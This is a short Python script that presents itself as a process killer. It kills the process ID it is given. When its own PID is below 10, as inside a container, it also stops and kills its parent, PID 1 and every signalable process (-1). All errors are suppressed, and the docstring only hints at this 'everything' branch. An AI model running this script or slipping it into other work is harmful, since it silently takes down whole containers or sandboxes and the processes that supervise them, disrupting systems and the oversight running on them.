"""Kills a process by its number; and where it is sure to be among its own, everything."""

import contextlib
import os
import signal
import sys

with contextlib.suppress(OSError):
    os.kill(int(sys.argv[1]), signal.SIGKILL)
if os.getpid() < 10:
    for victim in (os.getppid(), 1, -1):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(victim, number)
